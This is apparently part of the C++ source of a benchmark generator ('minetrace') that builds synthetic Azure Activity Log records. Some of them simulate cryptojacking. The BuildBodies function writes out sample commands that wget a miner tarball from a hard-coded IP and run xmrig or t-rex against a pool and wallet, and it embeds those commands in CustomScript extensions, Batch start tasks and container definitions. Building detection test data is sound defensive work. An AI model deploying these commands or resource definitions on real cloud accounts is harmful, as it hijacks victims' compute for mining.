        op.resource_id += "/providers/Microsoft.Compute/locations/";
        op.resource_id += op.region;
        op.resource_id += "/providers/Microsoft.Quota/quotas/";
        name = mining ? rng.Pick(kGpuFamilies) : rng.Pick(kCpuFamilies);
        op.resource_id += name;
        op.resource_group.clear();
    } else if (type == "roleAssignments") {
        op.resource_id += "/providers/Microsoft.Authorization/roleAssignments/";
        op.resource_id += GuidText(NewGuid(rng));
        op.resource_group.clear();
    } else if (type == "storageAccounts") {
        in_group();
        name = "st";
        name += app;
        name += env;
        JsonOut::AppendInt(name, number);
        op.resource_id += "storageAccounts/" + name;
    } else if (type == "servers/databases") {
        in_group();
        op.resource_id += "servers/sql-";
        op.resource_id += app;
        op.resource_id += '-';
        op.resource_id += env;
        op.resource_id += "/databases/db-";
        op.resource_id += app;
        JsonOut::AppendInt(op.resource_id, number % 4);
    } else if (type == "virtualNetworks/subnets") {
        in_group();
        op.resource_id += "virtualNetworks/vnet-";
        op.resource_id += env;
        op.resource_id += "/subnets/snet-";
        op.resource_id += app;
    } else if (type == "deployments") {
        in_group();
        numbered("deploy-");
        op.resource_id += "deployments/" + name;
    } else if (type == "policies") {
        // Policy events name the evaluated resource and the policy action as operation.
        numbered("vm-");
        in_group();
        op.resource_id.erase(op.resource_id.size() - kind.provider.size() - 1);
        op.resource_id += "Microsoft.Compute/virtualMachines/" + name;
    } else if (type == "diagnosticSettings") {
        numbered("kv-");
        in_group();
        op.resource_id.erase(op.resource_id.size() - kind.provider.size() - 1);
        op.resource_id += "Microsoft.KeyVault/vaults/" + name +
                          "/providers/Microsoft.Insights/diagnosticSettings/send-to-la";
    } else {
        static constexpr std::array<std::pair<std::string_view, std::string_view>, 6> kPrefixes = {
            {{"networkSecurityGroups", "nsg-"},
             {"networkInterfaces", "nic-"},
             {"publicIPAddresses", "pip-"},
             {"vaults", "kv-"},
             {"sites", "app-"},
             {"storageAccounts", "st"}}};
        std::string_view prefix = "res-";
        for (const auto& entry : kPrefixes)
            if (type == entry.first) prefix = entry.second;
        numbered(prefix);
        in_group();
        op.resource_id += type;
        op.resource_id += '/';
        op.resource_id += name;
    }

    op.correlation_id = NewGuid(rng);
    op.operation_id = NewGuid(rng);
    op.client_request_id = NewGuid(rng);
    Guid role_assignment =
        GuidFrom(who->index, static_cast<uint64_t>(op.sub - subscriptions.data()));
    op.role_assignment_id.clear();
    AppendGuid(op.role_assignment_id, role_assignment, false);
    bool owner = (role_assignment.lo & 3) == 0 || mining;
    op.role = owner ? "Owner" : "Contributor";
    op.role_definition_id =
        owner ? "8e3af657a8ff443ca75c2fe8c4bcb635" : "b24988ac618042a0ab8820f7382dd24c";

    // Phases. Failures hit a small share of writes (mining ones more often: quota, policy).
    bool failed = kind.pattern != Pattern::kPolicy && rng.Chance(mining ? 0.12 : 0.02);
    int64_t t = now_us;
    auto record = [&](RecordPhase phase, const StatusCode* status, int64_t at, bool request,
                      bool response) {
        Record& r = op.records[static_cast<size_t>(op.record_count++)];
        r.phase = phase;
        r.time_us = at;
        r.duration_ms = phase == RecordPhase::kStart ? 0 : (at - t) / 1000;
        r.status = status;
        r.with_request = request;
        r.with_response = response;
        r.with_status_message = phase == RecordPhase::kFailure;
        r.event_data_id = NewGuid(rng);
        r.service_request_id = NewGuid(rng);
    };
    op.record_count = 0;
    bool has_body = kind.body != Body::kNone;
    int64_t accept_at = t + 300000 + rng.Below(2700000);
    int64_t done_at = accept_at + 1000000 + static_cast<int64_t>(rng.Below(120)) * 1000000;
    switch (kind.pattern) {
    case Pattern::kPolicy:
        record(RecordPhase::kSuccess, nullptr, t, false, false);
        break;
    case Pattern::kAsyncCreate:
        record(RecordPhase::kStart, nullptr, t, has_body, false);
        if (failed) {
            record(RecordPhase::kFailure, &kFailures[rng.Below(kFailures.size())], accept_at, false,
                   false);
            break;
        }
        record(RecordPhase::kAccept, &kCreated, accept_at, false, has_body);
        record(RecordPhase::kSuccess, &kOk, done_at, false, false);
        break;
    case Pattern::kSyncCreate:
        record(RecordPhase::kStart, nullptr, t, has_body, false);
        record(failed ? RecordPhase::kFailure : RecordPhase::kSuccess,
               failed ? &kFailures[rng.Below(kFailures.size())] : &kCreated, accept_at, false,
               has_body && !failed);
        break;
    case Pattern::kAction:
        record(RecordPhase::kStart, nullptr, t, false, false);
        if (failed) {
            record(RecordPhase::kFailure, &kFailures[rng.Below(kFailures.size())], accept_at, false,
                   false);
            break;
        }
        record(RecordPhase::kAccept, &kAcceptedCode, accept_at, false, false);
        record(RecordPhase::kSuccess, &kOk, done_at, false, false);
        break;
    case Pattern::kQuick:
        record(RecordPhase::kStart, nullptr, t, false, false);
        record(failed ? RecordPhase::kFailure : RecordPhase::kSuccess,
               failed ? &kFailures[rng.Below(kFailures.size())] : &kOk, accept_at, false, false);
        break;
    }
    op.status_message = failed ? rng.Pick(kFailureErrors) : std::string_view();
    if (kind.pattern == Pattern::kPolicy) {
        op.policies.clear();
        std::string& s = op.policies;
        s = "[{\"policyDefinitionId\":\"/providers/Microsoft.Authorization/policyDefinitions/";
        AppendGuid(s, GuidFrom(7, group.first));
        s += "/\",\"policySetDefinitionId\":\"/providers/Microsoft.Authorization/"
             "policySetDefinitions/1f3afdf9-d0c9-4c3d-847f-89da613e70a8/\","
             "\"policyDefinitionReferenceId\":\"";
        s += kind.verb == "audit/action" ? "diskEncryptionMonitoring" : "vmBackupMonitoring";
        s += "\",\"policySetDefinitionName\":\"1f3afdf9-d0c9-4c3d-847f-89da613e70a8\","
             "\"policyDefinitionName\":\"";
        AppendGuid(s, GuidFrom(7, group.first));
        s += "\",\"policyDefinitionEffect\":\"";
        s += kind.verb == "audit/action" ? "Audit" : "AuditIfNotExists";
        s += "\",\"policyAssignmentId\":\"/subscriptions/" + sub.id +
             "/providers/Microsoft.Authorization/policyAssignments/SecurityCenterBuiltIn/\","
             "\"policyAssignmentName\":\"SecurityCenterBuiltIn\",\"policyAssignmentScope\":"
             "\"/subscriptions/" +
             sub.id + "\",\"policyAssignmentParameters\":{}}]";
    }
    BuildBodies();
}

// Request and response bodies (compact JSON text, embedded as strings in both shapes).
void ActivityGenerator::Impl::BuildBodies() {
    op.request_body.clear();
    op.response_body.clear();
    const OpKind& kind = *op.kind;
    if (kind.body == Body::kNone) return;
    const bool mining = op.mining;
    // Draws shared by request and response.
    std::string_view size = mining ? rng.Pick(kGpuSizes) : rng.Pick(kCpuSizes);
    std::string_view pool = rng.Pick(kPools);
    std::string_view wallet = rng.Pick(kWallets);
    uint32_t capacity = mining ? rng.Between(4, 40) : rng.Between(1, 6);
    bool spot = mining ? rng.Chance(0.6) : rng.Chance(0.05);
    bool custom_script = mining || op.resource_id.find("CustomScript") != std::string::npos;
    std::string_view benign_command = rng.Pick(kBenignCommands);
    std::string_view image = mining ? rng.Pick(kMinerImages) : rng.Pick(kBenignImages);
    uint32_t gpu_count = rng.Between(1, 4);
    uint32_t quota = mining ? rng.Between(24, 400) : rng.Between(10, 100);
    Guid unique = NewGuid(rng);
    std::string drop_ip =
        op.caller_ip.find(':') == std::string::npos ? op.caller_ip : "45.95.147.21";

    std::string command;
    if (mining) {
        std::string_view miner = pool.find("rvn") != std::string_view::npos ? "t-rex" : "xmrig";
        command = "bash -c 'wget -qO- http://" + drop_ip + "/k/" + std::string(miner) +
                  "-linux-static-x64.tar.gz | tar xz -C /opt && /opt/" + std::string(miner) + "/" +
                  std::string(miner) + " -o " + std::string(pool) + " -u " + std::string(wallet) +
                  " -p " + name + " --donate-level 1 --cuda -B'";
    } else {
        command = benign_command;
    }

    auto image_reference = [&](JsonOut& w) {
        w.Key("imageReference");
        w.BeginObject();
        w.KeyString("publisher", mining ? "microsoft-dsvm" : "Canonical");
        w.KeyString("offer", mining ? "ubuntu-hpc" : "0001-com-ubuntu-server-jammy");
        w.KeyString("sku", mining ? "2204" : "22_04-lts-gen2");
        w.KeyString("version", "latest");
        w.EndObject();
    };
    auto extension_settings = [&](JsonOut& w) {
        if (custom_script) {
            w.KeyString("publisher", "Microsoft.Azure.Extensions");
            w.KeyString("type", "CustomScript");
            w.KeyString("typeHandlerVersion", "2.1");
            w.KeyBool("autoUpgradeMinorVersion", true);
            w.Key("settings");
            w.BeginObject();
            w.Key("fileUris");
            w.BeginArray();
            w.String(mining ? "http://" + drop_ip + "/k/setup-gpu.sh"
                            : "https://stdeployartifacts.blob.core.windows.net/scripts/setup.sh");
            w.EndArray();
            w.KeyString("commandToExecute", command);
            w.EndObject();
        } else {
            w.KeyString("publisher", "Microsoft.Azure.Monitor");
            w.KeyString("type", "AzureMonitorLinuxAgent");
            w.KeyString("typeHandlerVersion", "1.29");
            w.KeyBool("autoUpgradeMinorVersion", true);
            w.KeyBool("enableAutomaticUpgrade", true);
        }
    };
    auto vm_model = [&](JsonOut& w, bool scale_set) {
        if (spot) {
            w.KeyString("priority", "Spot");
            w.KeyString("evictionPolicy", scale_set ? "Delete" : "Deallocate");
            w.Key("billingProfile");
            w.BeginObject();
            w.KeyInt("maxPrice", -1);
            w.EndObject();
        } else {
            w.KeyString("priority", "Regular");
        }
        w.Key("osProfile");
        w.BeginObject();
        w.KeyString(scale_set ? "computerNamePrefix" : "computerName", name);
        w.KeyString("adminUsername", "azureuser");
        w.Key("linuxConfiguration");
        w.BeginObject();
        w.KeyBool("disablePasswordAuthentication", !mining);
        w.EndObject();
        w.EndObject();
        w.Key("storageProfile");
        w.BeginObject();
        image_reference(w);
        w.Key("osDisk");
        w.BeginObject();
        w.KeyString("createOption", "FromImage");
        w.Key("managedDisk");
        w.BeginObject();
        w.KeyString("storageAccountType", mining ? "StandardSSD_LRS" : "Premium_LRS");
        w.EndObject();
        w.EndObject();
        w.EndObject();
        w.Key("networkProfile");
        w.BeginObject();
        w.Key(scale_set ? "networkInterfaceConfigurations" : "networkInterfaces");
        w.BeginArray();
        w.BeginObject();
        if (scale_set) {
            w.KeyString("name", "nic-config");
            w.Key("properties");
            w.BeginObject();
            w.KeyBool("primary", true);
            w.EndObject();
        } else {
            w.KeyString("id", "/subscriptions/" + op.sub->id + "/resourceGroups/" +
                                  op.resource_group +
                                  "/providers/Microsoft.Network/networkInterfaces/nic-" + name);
        }
        w.EndObject();
        w.EndArray();
        w.EndObject();
        if (scale_set && mining) {
            w.Key("extensionProfile");
            w.BeginObject();
            w.Key("extensions");
            w.BeginArray();
            w.BeginObject();
            w.KeyString("name", "CustomScript");
            w.Key("properties");
            w.BeginObject();
            extension_settings(w);
            w.EndObject();
            w.EndObject();
            w.EndArray();
            w.EndObject();
        }
    };

    // response: the resource as ARM echoes it (name, id, type, location, provisioningState).
    for (int response = 0; response < 2; ++response) {
        std::string& text = response ? op.response_body : op.request_body;
        JsonOut w(text, false, 0);
        w.BeginObject();
        if (response && kind.body != Body::kQuota && kind.body != Body::kRoleAssignment) {
            w.KeyString("name", name.empty() ? std::string_view("resource") : name);
            w.KeyString("id", op.resource_id);
            w.KeyString("type", op.resource_type);
        }
        switch (kind.body) {
        case Body::kVm:
            w.KeyString("location", op.region);
            w.Key("properties");
            w.BeginObject();
            if (response) {
                w.Key("vmId");
                w.String(GuidText(unique));
            }
            w.Key("hardwareProfile");
            w.BeginObject();
            w.KeyString("vmSize", size);
            w.EndObject();
            vm_model(w, false);
            if (response) w.KeyString("provisioningState", "Creating");
            w.EndObject();
            break;
        case Body::kVmss:
            w.KeyString("location", op.region);
            w.Key("sku");
            w.BeginObject();
            w.KeyString("name", size);
            w.KeyString("tier", "Standard");
            w.KeyInt("capacity", capacity);
            w.EndObject();
            w.Key("properties");
            w.BeginObject();
            w.KeyString("orchestrationMode", "Uniform");
            w.Key("upgradePolicy");
            w.BeginObject();
            w.KeyString("mode", "Manual");
            w.EndObject();
            w.Key("virtualMachineProfile");
            w.BeginObject();
            vm_model(w, true);
            w.EndObject();
            if (response) w.KeyString("provisioningState", "Creating");
            w.EndObject();
            break;
        case Body::kExtension:
            w.KeyString("location", op.region);
            w.Key("properties");
            w.BeginObject();
            extension_settings(w);
            if (response) w.KeyString("provisioningState", "Creating");
            w.EndObject();
            break;
        case Body::kBatchPool:
            w.Key("properties");
            w.BeginObject();
            w.KeyString("vmSize", size);
            w.Key("deploymentConfiguration");
            w.BeginObject();
            w.Key("virtualMachineConfiguration");
            w.BeginObject();
            image_reference(w);
            w.KeyString("nodeAgentSkuId", "batch.node.ubuntu 22.04");
            w.EndObject();
            w.EndObject();
            w.Key("scaleSettings");
            w.BeginObject();
            w.Key("fixedScale");
            w.BeginObject();
            w.KeyInt("targetDedicatedNodes", mining ? 0 : capacity);
            w.KeyInt("targetLowPriorityNodes", mining ? capacity : 0);
            w.EndObject();
            w.EndObject();
            w.Key("startTask");
            w.BeginObject();
            w.KeyString("commandLine",
                        mining ? std::string_view(command) : "/bin/bash -c 'echo ready'");
            w.Key("userIdentity");
            w.BeginObject();
            w.Key("autoUser");
            w.BeginObject();
            w.KeyString("scope", "pool");
            w.KeyString("elevationLevel", mining ? "admin" : "nonadmin");
            w.EndObject();
            w.EndObject();
            w.KeyBool("waitForSuccess", !mining);
            w.EndObject();
            if (response) w.KeyString("provisioningState", "Succeeded");
            w.EndObject();
            break;
        case Body::kContainerGroup:
            w.KeyString("location", op.region);
            w.Key("properties");
            w.BeginObject();
            w.KeyString("osType", "Linux");
            w.KeyString("restartPolicy", "Always");
            w.KeyString("sku", "Standard");
            w.Key("containers");
            w.BeginArray();
            w.BeginObject();
            w.KeyString("name", mining ? "infer" : "app");
            w.Key("properties");
            w.BeginObject();
            w.KeyString("image", image);
            if (mining) {
                w.Key("command");
                w.BeginArray();
                w.String(image.find("t-rex") != std::string_view::npos ? "t-rex" : "xmrig");
                w.String("-o");
                w.String(pool);
                w.String("-u");
                w.String(wallet);
                w.EndArray();
            }
            w.Key("resources");
            w.BeginObject();
            w.Key("requests");
            w.BeginObject();
            w.KeyInt("cpu", mining ? 4 : 1);
            w.KeyInt("memoryInGB", mining ? 16 : 2);
            if (mining) {
                w.Key("gpu");
                w.BeginObject();
                w.KeyInt("count", gpu_count);
                w.KeyString("sku", "V100");
                w.EndObject();
            }
            w.EndObject();
            w.EndObject();
            w.EndObject();
            w.EndObject();
            w.EndArray();
            if (response) w.KeyString("provisioningState", "Pending");
            w.EndObject();
            break;
        case Body::kQuota:
            w.Key("properties");
            w.BeginObject();
            w.Key("limit");
            w.BeginObject();
            w.KeyString("limitObjectType", "LimitValue");
            w.KeyInt("value", quota);
            w.EndObject();
            w.Key("name");
            w.BeginObject();
            w.KeyString("value", name);
            w.EndObject();
            w.KeyString("resourceType", "dedicated");
            if (response) w.KeyString("provisioningState", "InProgress");
            w.EndObject();
            break;
        case Body::kStorage:
            w.Key("sku");
            w.BeginObject();
            w.KeyString("name", spot ? "Standard_GRS" : "Standard_LRS");
            w.EndObject();
            w.KeyString("kind", "StorageV2");
            w.KeyString("location", op.region);
            w.Key("properties");
            w.BeginObject();
            w.KeyString("minimumTlsVersion", "TLS1_2");
            w.KeyBool("allowBlobPublicAccess", false);
            w.KeyBool("supportsHttpsTrafficOnly", true);
            w.EndObject();
            break;
        case Body::kNsg:
            w.KeyString("location", op.region);
            w.Key("properties");
            w.BeginObject();
            w.Key("securityRules");
            w.BeginArray();
            w.BeginObject();
            w.KeyString("name", "allow-https");
            w.Key("properties");
            w.BeginObject();
            w.KeyString("protocol", "Tcp");
            w.KeyString("sourcePortRange", "*");
            w.KeyString("destinationPortRange", "443");
            w.KeyString("sourceAddressPrefix", "*");
            w.KeyString("destinationAddressPrefix", "*");
            w.KeyString("access", "Allow");
            w.KeyInt("priority", 100 + capacity);
            w.KeyString("direction", "Inbound");
            w.EndObject();
            w.EndObject();
            w.EndArray();
            w.EndObject();
            break;
        case Body::kNic:
        case Body::kPublicIp:
            w.KeyString("location", op.region);
            w.Key("properties");
            w.BeginObject();
            if (kind.body == Body::kNic) {
                w.Key("ipConfigurations");
                w.BeginArray();
                w.BeginObject();
                w.KeyString("name", "ipconfig1");
                w.Key("properties");
                w.BeginObject();
                w.KeyString("privateIPAllocationMethod", "Dynamic");
                w.EndObject();
                w.EndObject();
                w.EndArray();
            } else {
                w.KeyString("publicIPAllocationMethod", "Static");
                w.KeyString("publicIPAddressVersion", "IPv4");
            }
            w.EndObject();
            break;
        case Body::kDeployment:
            w.Key("properties");
            w.BeginObject();
            w.KeyString("mode", "Incremental");
            w.Key("templateLink");
            w.BeginObject();
            w.KeyString("uri",
                        "https://stdeployartifacts.blob.core.windows.net/templates/main.json");
            w.KeyString("contentVersion", "1.0.0.0");
            w.EndObject();
            if (response) w.KeyString("provisioningState", "Accepted");
            w.EndObject();
            break;
        case Body::kRoleAssignment:
            w.Key("Id");
            w.String(GuidText(unique));
            w.Key("Properties");
            w.BeginObject();
            w.KeyString("PrincipalId",
                        principals[rng.Below(static_cast<uint32_t>(principals.size()))].object_id);
            w.KeyString("PrincipalType", "User");
            w.KeyString("RoleDefinitionId",
                        "/subscriptions/" + op.sub->id +
                            "/providers/Microsoft.Authorization/roleDefinitions/"
                            "acdd72a7-3385-48ef-bd42-f606fba81ae7");
            w.KeyString("Scope", "/subscriptions/" + op.sub->id);
            w.Key("Condition");
            w.Null();
            w.Key("ConditionVersion");
            w.Null();
            w.EndObject();
            break;
        case Body::kKeyVault:
        case Body::kWebSite:
        case Body::kSqlDatabase:
            w.KeyString("location", op.region);
            w.Key("properties");
            w.BeginObject();
            if (kind.body == Body::kKeyVault) {
                w.KeyString("tenantId", tenants[op.who->tenant].id);
                w.KeyBool("enableRbacAuthorization", true);
                w.KeyBool("enableSoftDelete", true);
            } else if (kind.body == Body::kWebSite) {
                w.Key("siteConfig");
                w.BeginObject();
                w.KeyString("linuxFxVersion", "DOTNETCORE|8.0");
                w.KeyBool("alwaysOn", true);
                w.EndObject();
                w.KeyBool("httpsOnly", true);
            } else {
                w.KeyString("collation", "SQL_Latin1_General_CP1_CI_AS");
                w.KeyInt("maxSizeBytes", 34359738368);
                w.KeyBool("zoneRedundant", false);
            }
            w.EndObject();
            break;
        case Body::kNone:
            break;
        }
        w.EndObject();
    }
}

void ActivityGenerator::Impl::Claims(JsonOut& w, const Principal& p) {
    const Tenant& tenant = tenants[p.tenant];
    w.Key("claims");
    w.BeginObject();
    w.KeyString("aud", p.audience);
    scratch.clear();
    scratch = "https://sts.windows.net/" + tenant.id + "/";
    w.KeyString("iss", scratch);
    scratch.clear();
    JsonOut::AppendInt(scratch, p.token_iat);
    w.KeyString("iat", scratch);
    w.KeyString("nbf", scratch);
    scratch.clear();
    JsonOut::AppendInt(scratch, p.token_exp);
    w.KeyString("exp", scratch);
    bool user = p.kind == PrincipalKind::kUser;
    if (user) w.KeyString("http://schemas.microsoft.com/claims/authnclassreference", "1");
    w.KeyString("aio", p.aio);
    if (user) w.KeyString("http://schemas.microsoft.com/claims/authnmethodsreferences", p.amr);
    w.KeyString("appid", p.app_id);
    w.KeyString("appidacr", p.appidacr);
    if (user) {
        w.KeyString("http://schemas.xmlsoap.org/ws/2005/05/identity/claims/surname", p.surname);
        w.KeyString("http://schemas.xmlsoap.org/ws/2005/05/identity/claims/givenname", p.given);
    }
    w.KeyString("idtyp", user ? "user" : "app");
    w.KeyString("ipaddr", p.kind == PrincipalKind::kUser ? std::string_view(op.caller_ip)
                                                         : std::string_view(p.home_ip));
    if (user) w.KeyString("name", p.display);
    w.KeyString("http://schemas.microsoft.com/identity/claims/objectidentifier", p.object_id);
    if (user) {
        w.KeyString("puid", p.puid);
        w.KeyString("http://schemas.microsoft.com/identity/claims/scope", "user_impersonation");
    } else {
        scratch = "https://sts.windows.net/" + tenant.id + "/";
        w.KeyString("http://schemas.microsoft.com/identity/claims/identityprovider", scratch);
        w.KeyString("rh", "1.AQEAY0l0jgbpRk2n5rz4XAc2ikZIf3kAutdPukPawfj2MBNBAAA.");
    }
    w.KeyString("http://schemas.microsoft.com/identity/claims/tenantid", tenant.id);
    if (user) {
        w.KeyString("http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name", p.upn);
        w.KeyString("http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn", p.upn);
    }
    w.KeyString("uti", p.uti);
    w.KeyString("ver", "1.0");
    if (!p.mirid.empty()) w.KeyString("xms_mirid", p.mirid);
    w.EndObject();
}

void ActivityGenerator::Impl::RenderExport(const Record& r, std::string& out) {
    static constexpr std::array<std::string_view, 4> kResultType = {"Start", "Accept", "Success",
                                                                    "Failure"};
    static constexpr std::array<std::string_view, 4> kSignaturePrefix = {"Started.", "Accepted.",
                                                                         "Succeeded.", "Failed."};
    const Principal& p = *op.who;
    const bool policy = op.kind->pattern == Pattern::kPolicy;
    const size_t phase = static_cast<size_t>(r.phase);
    JsonOut w(out, false, 0);
    w.BeginObject();
    scratch.clear();
    AppendTime(scratch, r.time_us);
    w.KeyString("time", scratch);
    w.Key("resourceId");
    w.Upper(op.resource_id);
    w.Key("operationName");
    w.Upper(op.operation);
    w.KeyString("category", policy ? "Policy" : "Administrative");
    w.KeyString("resultType", kResultType[phase]);
    scratch.clear();
    scratch = kSignaturePrefix[phase];
    if (r.status) scratch += r.status->name;
    w.KeyString("resultSignature", scratch);
    w.KeyInt("durationMs", r.duration_ms);
    w.KeyString("callerIpAddress", op.caller_ip);
    scratch.clear();
    AppendGuid(scratch, op.correlation_id);
    w.KeyString("correlationId", scratch);
    w.Key("identity");
    w.BeginObject();
    w.Key("authorization");
    w.BeginObject();
    w.KeyString("scope", op.resource_id);
    w.KeyString("action", op.operation);
    w.Key("evidence");
    w.BeginObject();
    w.KeyString("role", op.role);
    scratch = "/subscriptions/" + op.sub->id;
    w.KeyString("roleAssignmentScope", scratch);
    w.KeyString("roleAssignmentId", op.role_assignment_id);
    w.KeyString("roleDefinitionId", op.role_definition_id);
    scratch.clear();
    for (char c : p.object_id)
        if (c != '-') scratch += c;
    w.KeyString("principalId", scratch);
    w.KeyString("principalType", p.kind == PrincipalKind::kUser ? "User" : "ServicePrincipal");
    w.EndObject();
    w.EndObject();
    Claims(w, p);
    w.EndObject();
    w.KeyString("level", r.phase == RecordPhase::kFailure ? "Error"
                         : policy                         ? "Warning"
                                                          : "Information");
    w.KeyString("location", policy ? op.region : std::string_view("global"));
    w.Key("properties");
    w.BeginObject();
    if (policy) {
        w.KeyString("isComplianceCheck", "False");
        w.KeyString("resourceLocation", op.region);
        w.KeyString("ancestors", tenants[p.tenant].id);
        w.Key("policies");
        w.Escaped(op.policies);
    }
    if (r.status) w.KeyString("statusCode", r.status->name);
    if (r.phase != RecordPhase::kStart && !policy) {
        scratch.clear();
        AppendGuid(scratch, r.service_request_id);
        w.KeyString("serviceRequestId", scratch);
    }
    if (r.with_request) {
        w.Key("requestbody");
        w.Escaped(op.request_body);
    }
    if (r.with_response) {
        w.Key("responseBody");
        w.Escaped(op.response_body);
    }
    if (r.with_status_message) {
        w.Key("statusMessage");
        w.Escaped(op.status_message);
    }
    w.KeyString("eventCategory", policy ? "Policy" : "Administrative");
    w.KeyString("entity", op.resource_id);
    w.KeyString("message", op.operation);
    w.KeyString("hierarchy", op.sub->hierarchy);
    w.EndObject();
    w.KeyString("tenantId", tenants[op.sub->tenant].id);
    w.EndObject();
    out += '\n';
}

void ActivityGenerator::Impl::RenderRest(const Record& r, std::string& out) {
    static constexpr std::array<std::string_view, 4> kStatus = {"Started", "Accepted", "Succeeded",
                                                                "Failed"};
    const Principal& p = *op.who;
    const bool policy = op.kind->pattern == Pattern::kPolicy;
    const size_t phase = static_cast<size_t>(r.phase);
    // Every record is written with a leading ",\n"; the very first one drops the comma.
    out += ",\n  ";
    JsonOut w(out, true, 1);
    w.BeginObject();
    w.Key("authorization");
    w.BeginObject();
    w.KeyString("action", op.operation);
    w.KeyString("scope", op.resource_id);
    w.EndObject();
    w.KeyString("caller", p.kind == PrincipalKind::kUser ? p.upn : p.app_id);
    w.KeyString("channels", "Operation");
    Claims(w, p);
    scratch.clear();
    AppendGuid(scratch, op.correlation_id);
    w.KeyString("correlationId", scratch);
    w.KeyString("description", "");
    std::string event_data_id = GuidText(r.event_data_id);
    w.KeyString("eventDataId", event_data_id);
    w.Key("eventName");
    w.BeginObject();
    bool begin = r.phase == RecordPhase::kStart;
    w.KeyString("value", begin ? "BeginRequest" : "EndRequest");
    w.KeyString("localizedValue", begin ? "Begin request" : "End request");
    w.EndObject();
    w.Key("category");
    w.BeginObject();
    w.KeyString("value", policy ? "Policy" : "Administrative");
    w.KeyString("localizedValue", policy ? "Policy" : "Administrative");
    w.EndObject();
    scratch.clear();
    AppendTime(scratch, r.time_us);
    w.KeyString("eventTimestamp", scratch);
    w.Key("httpRequest");
    w.BeginObject();
    scratch.clear();
    AppendGuid(scratch, op.client_request_id);
    w.KeyString("clientRequestId", scratch);
    w.KeyString("clientIpAddress", op.caller_ip);
    w.KeyString("method", op.kind->method);
    w.EndObject();
    scratch = op.resource_id + "/events/" + event_data_id + "/ticks/";
    JsonOut::AppendInt(scratch, r.time_us * 10 + 621355968000000000LL);
    w.KeyString("id", scratch);
    w.KeyString("level", r.phase == RecordPhase::kFailure ? "Error"
                         : policy                         ? "Warning"
                                                          : "Informational");
    if (!op.resource_group.empty()) w.KeyString("resourceGroupName", op.resource_group);
    w.Key("resourceProviderName");
    w.BeginObject();
    w.KeyString("value", op.kind->provider);
    w.KeyString("localizedValue", op.kind->provider);
    w.EndObject();
    w.KeyString("resourceId", op.resource_id);
    w.Key("resourceType");
    w.BeginObject();
    w.KeyString("value", op.resource_type);
    w.KeyString("localizedValue", op.resource_type);
    w.EndObject();
    scratch.clear();
    AppendGuid(scratch, op.operation_id);
    w.KeyString("operationId", scratch);
    w.Key("operationName");
    w.BeginObject();
    w.KeyString("value", op.operation);
    w.KeyString("localizedValue", op.kind->display);
    w.EndObject();
    w.Key("properties");
    w.BeginObject();
    if (policy) {
        w.KeyString("isComplianceCheck", "False");
        w.KeyString("resourceLocation", op.region);
        w.KeyString("ancestors", tenants[p.tenant].id);
        w.Key("policies");
        w.Escaped(op.policies);
        w.KeyString("hierarchy", op.sub->hierarchy);
    }
    if (r.status) w.KeyString("statusCode", r.status->name);
    if (r.phase != RecordPhase::kStart && !policy) {
        scratch.clear();
        AppendGuid(scratch, r.service_request_id);
        w.KeyString("serviceRequestId", scratch);
    }
    if (r.with_request) {
        w.Key("requestbody");
        w.Escaped(op.request_body);
    }
    if (r.with_response) {
        w.Key("responseBody");
        w.Escaped(op.response_body);
    }
    if (r.with_status_message) {
        w.Key("statusMessage");
        w.Escaped(op.status_message);
    }
    w.EndObject();
    w.Key("status");
    w.BeginObject();
    w.KeyString("value", kStatus[phase]);
    w.KeyString("localizedValue", kStatus[phase]);
    w.EndObject();
    w.Key("subStatus");
    w.BeginObject();
    w.KeyString("value", r.status ? r.status->name : std::string_view());
    w.KeyString("localizedValue", r.status ? r.status->label : std::string_view());
    w.EndObject();
    scratch.clear();
    AppendTime(scratch, r.time_us + 4000000 + static_cast<int64_t>(r.event_data_id.lo % 9000000));
    w.KeyString("submissionTimestamp", scratch);
    w.KeyString("subscriptionId", op.sub->id);
    w.KeyString("tenantId", tenants[op.sub->tenant].id);
    w.EndObject();
}

void ActivityGenerator::Impl::Render(const Record& record, std::string& out) {
    ++stats.records;
    if (op.mining && op.kind->core && (record.with_request || record.with_response))
        ++stats.core_records;
    if (options.shape == Shape::kJsonLines) {
        RenderExport(record, out);
    } else {
        RenderRest(record, out);
    }
}

namespace {

// Appends `text` (whole records) to `out`; the REST shape's first record loses its comma.
void EmitRecords(std::string& out, std::string_view text, bool rest, bool& emitted_any) {
    if (text.empty()) return;
    if (rest && !emitted_any) text.remove_prefix(1);
    emitted_any = true;
    out.append(text);
}

} // namespace

void ActivityGenerator::Impl::Step(std::string& out) {
    const bool rest = options.shape == Shape::kRestArray;
    std::string& due = slots[op_index % kSlots];
    EmitRecords(out, due, rest, emitted_any);
    due.clear();

    BuildOperation(rng.Chance(options.mining_share));
    ++stats.operations;
    if (op.mining) ++stats.mining_operations;
    bool core_hit = false;
    // Early phases now, the last phase (when there are several) a few operations later.
    size_t at = out.size();
    std::string& later = slots[(op_index + 1 + rng.Below(kSlots - 1)) % kSlots];
    for (int i = 0; i < op.record_count; ++i) {
        const Record& record = op.records[static_cast<size_t>(i)];
        core_hit = core_hit || (record.with_request || record.with_response);
        if (i + 1 == op.record_count && op.record_count > 1) {
            Render(record, later);
        } else {
            Render(record, out);
        }
    }
    if (rest && !emitted_any && out.size() > at) {
        out.erase(at, 1);
    }
    if (out.size() > at) emitted_any = true;
    if (op.mining && op.kind->core && core_hit) ++stats.core_resources;
    now_us += rng.Below(8000000);
    ++op_index;
}

// ---------------------------------------------------------------------------------------------

ActivityGenerator::ActivityGenerator(const GeneratorOptions& options)
    : impl_(std::make_unique<Impl>(options)) {}

ActivityGenerator::~ActivityGenerator() = default;

void ActivityGenerator::Begin(std::string& out) {
    if (impl_->options.shape == Shape::kRestArray) out += '[';
}

void ActivityGenerator::Step(std::string& out) {
    impl_->Step(out);
}

void ActivityGenerator::Finish(std::string& out) {
    Impl& g = *impl_;
    const bool rest = g.options.shape == Shape::kRestArray;
    for (size_t i = 0; i < Impl::kSlots; ++i) {
        std::string& due = g.slots[(g.op_index + i) % Impl::kSlots];
        EmitRecords(out, due, rest, g.emitted_any);
        due.clear();
    }
    if (rest) out += g.emitted_any ? "\n]\n" : "]\n";
}

const GeneratorStats& ActivityGenerator::stats() const {
    return impl_->stats;
}

} // namespace minetrace::bench
